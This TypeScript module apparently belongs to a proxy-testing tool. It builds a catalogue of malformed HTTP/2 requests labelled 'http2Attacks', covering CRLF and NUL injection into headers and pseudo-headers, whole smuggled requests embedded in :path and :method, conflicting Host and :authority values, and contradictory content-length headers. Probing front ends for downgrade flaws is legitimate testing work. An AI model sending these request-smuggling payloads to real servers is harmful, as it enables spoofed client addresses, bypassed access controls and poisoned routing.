import { spoofedValues, http2Request, type At, type Attempt, type Stream } from "../attempt";
import type { Header } from "../seen-request";
import { alternating, spoofedHeaders } from "./forwarded-headers";
import { pseudo } from "./targets";

/** What no polite client of HTTP/2 sends: a front end that turns it into HTTP/1.1 writes the attacker's text into a request. */

const stream = (kind: string, name: string, http2: (at: At) => Stream): Attempt => ({ kind, name, http2 });

const headers = (kind: string, name: string, list: (at: At) => readonly Header[]): Attempt =>
  stream(kind, name, (at) => http2Request(at, list(at)));

const upperCase: readonly Attempt[] = [
  ...spoofedHeaders.map(({ name, value }) =>
    headers("HTTP/2 names in upper case", name, (at) => [[name, value(at)]]),
  ),
  headers("HTTP/2 names in upper case", "alternating", ({ spoofed }) => [
    [alternating("X-Forwarded-Proto"), spoofed],
  ]),
  headers("HTTP/2 names in upper case", "underscores", ({ spoofed }) => [["X_FORWARDED_PROTO", spoofed]]),
];

const hopByHop: readonly Attempt[] = (
  [
    ["connection", "x-forwarded-proto"],
    ["connection", "close"],
    ["connection", "upgrade"],
    ["connection", ""],
    ["proxy-connection", "keep-alive"],
    ["keep-alive", "timeout=5"],
    ["transfer-encoding", "chunked"],
    ["transfer-encoding", "identity"],
    ["upgrade", "h2c"],
    ["upgrade", "websocket"],
    ["te", "gzip"],
    ["te", "trailers, chunked"],
    ["http2-settings", "AAMAAABkAARAAAAAAAIAAAAA"],
  ] as const
).map((header) =>
  headers("HTTP/2 headers of a connection", `${header[0]} ${header[1]}`, () => [
    header,
    ["x-forwarded-for", spoofedValues.client],
  ]),
);

const authority: readonly Attempt[] = [
  headers("Host against :authority", "another Host", () => [["host", spoofedValues.host]]),
  headers("Host against :authority", "the same Host", ({ host }) => [["host", host]]),
  headers("Host against :authority", "two Hosts", ({ host }) => [
    ["host", host],
    ["host", spoofedValues.host],
  ]),
  headers("Host against :authority", "an empty Host", () => [["host", ""]]),
  headers("Host against :authority", "Host with a port", ({ host }) => [["host", `${host}:6666`]]),
  headers("Host against :authority", "Host with a user", ({ host }) => [
    ["host", `${host}@${spoofedValues.host}`],
  ]),
  stream("Host against :authority", "no :authority and two Hosts", (at) =>
    http2Request(
      at,
      [
        ["host", at.host],
        ["host", spoofedValues.host],
      ],
      { pseudo: pseudo(at, { ":authority": undefined }) },
    ),
  ),
  stream("missing Host", "HTTP/2 without :authority and Host", (at) =>
    http2Request(at, [], { pseudo: pseudo(at, { ":authority": undefined }) }),
  ),
  stream("missing Host", "HTTP/2 with an empty :authority", (at) =>
    http2Request(at, [], { pseudo: pseudo(at, { ":authority": "" }) }),
  ),
  stream("missing Host", "HTTP/2 with an empty :authority and an empty Host", (at) =>
    http2Request(at, [["host", ""]], { pseudo: pseudo(at, { ":authority": "" }) }),
  ),
  ...(
    [
      ["with a user", (host) => `${host}@${spoofedValues.host}`],
      ["with a path", (host) => `${spoofedValues.host}/${host}`],
      ["a list", (host) => `${host}, ${spoofedValues.host}`],
      ["with a space", (host) => `${host} ${spoofedValues.host}`],
      ["with line ends", (host) => `${host}\r\nX-Forwarded-For: ${spoofedValues.client}`],
      ["with a NUL", (host) => `${host}\0${spoofedValues.host}`],
      ["with a fragment", (host) => `${spoofedValues.host}#${host}`],
      ["with a query", (host) => `${spoofedValues.host}?${host}`],
    ] as readonly (readonly [string, (host: string) => string])[]
  ).map(([name, value]) =>
    stream("odd :authority", name, (at) =>
      http2Request(at, [], { pseudo: pseudo(at, { ":authority": value(at.host) }) }),
    ),
  ),
];

const withPseudo = (
  name: string,
  changed: (at: At) => Readonly<Record<string, string | undefined>>,
): Attempt =>
  stream("HTTP/2 pseudo-headers", name, (at) => http2Request(at, [], { pseudo: pseudo(at, changed(at)) }));

const ordered = (name: string, list: (at: At) => readonly Header[]): Attempt =>
  stream("HTTP/2 pseudo-headers", name, (at) => ({
    headers: [...list(at), ["x-marker", at.marker], ...at.last],
  }));

const pseudoHeaders: readonly Attempt[] = [
  withPseudo("the other :scheme", ({ spoofed }) => ({ ":scheme": spoofed })),
  withPseudo("the other :scheme in upper case", ({ spoofed }) => ({ ":scheme": spoofed.toUpperCase() })),
  withPseudo(":scheme ftp", () => ({ ":scheme": "ftp" })),
  withPseudo("no :scheme", () => ({ ":scheme": undefined })),
  withPseudo("an empty :scheme", () => ({ ":scheme": "" })),
  withPseudo("a :scheme with a URL", (at) => ({ ":scheme": `${at.spoofed}://${spoofedValues.host}/?` })),
  withPseudo("a :scheme with line ends", ({ spoofed }) => ({
    ":scheme": `${spoofed}\r\nX-Forwarded-For: ${spoofedValues.client}`,
  })),
  withPseudo("no :path", () => ({ ":path": undefined })),
  withPseudo("an empty :path", () => ({ ":path": "" })),
  withPseudo("a :path without a slash", ({ path }) => ({ ":path": path.slice(1) })),
  withPseudo("a :path with a URL", (at) => ({ ":path": `${at.spoofed}://${spoofedValues.host}${at.path}` })),
  withPseudo("a :path with another host", (at) => ({ ":path": `//${spoofedValues.host}${at.path}` })),
  withPseudo("a :path with a space", ({ path }) => ({ ":path": `${path} HTTP/1.1` })),
  withPseudo("a :path with line ends", ({ path }) => ({
    ":path": `${path} HTTP/1.1\r\nX-Forwarded-For: ${spoofedValues.client}\r\nX-Note: `,
  })),
  withPseudo("a :path with a whole request", (at) => ({
    ":path": `${at.path} HTTP/1.1\r\nHost: ${at.host}\r\n\r\nGET ${at.path}/smuggled HTTP/1.1\r\nX-Note: `,
  })),
  withPseudo("a :path with a line feed", ({ path }) => ({
    ":path": `${path}\nX-Real-IP: ${spoofedValues.client}`,
  })),
  withPseudo("a :path with a NUL", ({ path }) => ({ ":path": `${path}\0` })),
  withPseudo("a :path with a tab", ({ path }) => ({ ":path": `${path}\t` })),
  withPseudo("a :path with a fragment", ({ path }) => ({ ":path": `${path}#x` })),
  withPseudo("a :path with a byte above 127", ({ path }) => ({ ":path": `${path}\xff` })),
  withPseudo("an asterisk for :path", () => ({ ":path": "*" })),
  withPseudo("no :method", () => ({ ":method": undefined })),
  withPseudo("an empty :method", () => ({ ":method": "" })),
  withPseudo("a :method with a space", ({ path }) => ({ ":method": `GET ${path}` })),
  withPseudo("a :method with a whole request", (at) => ({
    ":method": `GET ${at.path}/smuggled HTTP/1.1\r\nHost: ${at.host}\r\n\r\nGET`,
  })),
  withPseudo("a :method in lower case", () => ({ ":method": "trace" })),
  withPseudo("an unknown pseudo-header", ({ spoofed }) => ({ ":x-forwarded-proto": spoofed })),
  withPseudo(":status", () => ({ ":status": "200" })),
  withPseudo(":protocol without CONNECT", () => ({ ":protocol": "websocket" })),
  withPseudo(":authority in upper case", () => ({ ":AUTHORITY": spoofedValues.host })),
  withPseudo("a colon alone", () => ({ ":": spoofedValues.host })),
  ordered("two :path", (at) => [...pseudo(at, {}), [":path", "/spoofed"]]),
  ordered("two :authority", (at) => [...pseudo(at, {}), [":authority", spoofedValues.host]]),
  ordered("two :method", (at) => [...pseudo(at, {}), [":method", "CONNECT"]]),
  ordered("two :scheme", (at) => [...pseudo(at, {}), [":scheme", at.spoofed]]),
  ordered("after a header", (at) => [["x-note", "a"], ...pseudo(at, {})]),
  ordered(":authority after a header", (at) => [
    ...pseudo(at, { ":authority": undefined }),
    ["x-note", "a"],
    [":authority", spoofedValues.host],
  ]),
  ordered("none at all", () => [["x-forwarded-for", spoofedValues.client]]),
];

const injected = `a\r\nX-Forwarded-For: ${spoofedValues.client}`;

const oddText: readonly Attempt[] = [
  headers("HTTP/2 headers with odd text", "line ends in a value", () => [["x-note", injected]]),
  headers("HTTP/2 headers with odd text", "a line feed in a value", () => [
    ["x-note", `a\nX-Real-IP: ${spoofedValues.client}`],
  ]),
  headers("HTTP/2 headers with odd text", "a carriage return in a value", () => [
    ["x-note", `a\rX-Real-IP: ${spoofedValues.client}`],
  ]),
  headers("HTTP/2 headers with odd text", "a NUL in a value", () => [
    ["x-note", `a\0X-Real-IP: ${spoofedValues.client}`],
  ]),
  headers("HTTP/2 headers with odd text", "a whole request in a value", (at) => [
    ["x-note", `a\r\n\r\nGET ${at.path}/smuggled HTTP/1.1\r\nHost: ${at.host}\r\n\r\n`],
  ]),
  headers("HTTP/2 headers with odd text", "spaces around a value", ({ spoofed }) => [
    ["x-forwarded-proto", ` ${spoofed} `],
  ]),
  headers("HTTP/2 headers with odd text", "a fold in a value", ({ spoofed }) => [
    ["x-note", `a\r\n X-Forwarded-Proto: ${spoofed}`],
  ]),
  ...[
    ["line ends in a name", `x-note: a\r\nx-forwarded-for: ${spoofedValues.client}\r\nx-more`],
    ["a line feed in a name", `x-note: a\nx-forwarded-for`],
    ["a colon in a name", "x-forwarded-for: 203.0.113.66"],
    ["a colon at the end of a name", "x-forwarded-for:"],
    ["a space in a name", "x-forwarded-for "],
    ["a space before a name", " x-forwarded-for"],
    ["a tab in a name", "x-forwarded-for\t"],
    ["a NUL in a name", "x-forwarded-for\0"],
    ["a vertical tab in a name", "x-forwarded-for\x0b"],
    ["a byte above 127 in a name", "x-forwarded-for\xff"],
    ["an empty name", ""],
    ["a whole request in a name", "x-note: a\r\n\r\nget /smuggled http/1.1\r\nx-more"],
  ].map(([name = "", text = ""]) =>
    headers("HTTP/2 headers with odd text", name, () => [[text, spoofedValues.client]]),
  ),
];

const body = (name: string, list: (at: At) => readonly Header[], more: Omit<Stream, "headers">): Attempt =>
  stream("HTTP/2 lengths", name, (at) => http2Request(at, list(at), more));

const lengths: readonly Attempt[] = [
  body("more data than said", () => [["content-length", "2"]], { data: "abcde" }),
  body("less data than said", () => [["content-length", "20"]], { data: "abcde" }),
  body("a length and no data", () => [["content-length", "20"]], {}),
  body(
    "two that differ",
    () => [
      ["content-length", "5"],
      ["content-length", "50"],
    ],
    { data: "abcde" },
  ),
  body(
    "two alike",
    () => [
      ["content-length", "5"],
      ["content-length", "5"],
    ],
    { data: "abcde" },
  ),
  body("a list", () => [["content-length", "5, 50"]], { data: "abcde" }),
  body("a sign", () => [["content-length", "+5"]], { data: "abcde" }),
  body("line ends", () => [["content-length", "5\r\ntransfer-encoding: chunked"]], { data: "abcde" }),
  body("an underscore", () => [["content_length", "0"]], { data: "abcde" }),
  body(
    "transfer-encoding beside it",
    () => [
      ["content-length", "5"],
      ["transfer-encoding", "chunked"],
    ],
    { data: "abcde" },
  ),
  body("a name in upper case", () => [["Content-Length", "0"]], { data: "abcde" }),
  body("padded data with a spoofed value", () => [["x-forwarded-host", spoofedValues.host]], {
    data: "abcde",
    padded: true,
  }),
];

const cut: readonly Attempt[] = [2, 5, 40].map((pieces) =>
  stream("HTTP/2 in pieces", `${pieces} frames`, (at) => ({
    ...http2Request(at, [
      ["x-forwarded-for", spoofedValues.client],
      ["x_forwarded_proto", at.spoofed],
    ]),
    pieces,
  })),
);

export const http2Attacks: readonly Attempt[] = [
  ...upperCase,
  ...hopByHop,
  ...authority,
  ...pseudoHeaders,
  ...oddText,
  ...lengths,
  ...cut,
];
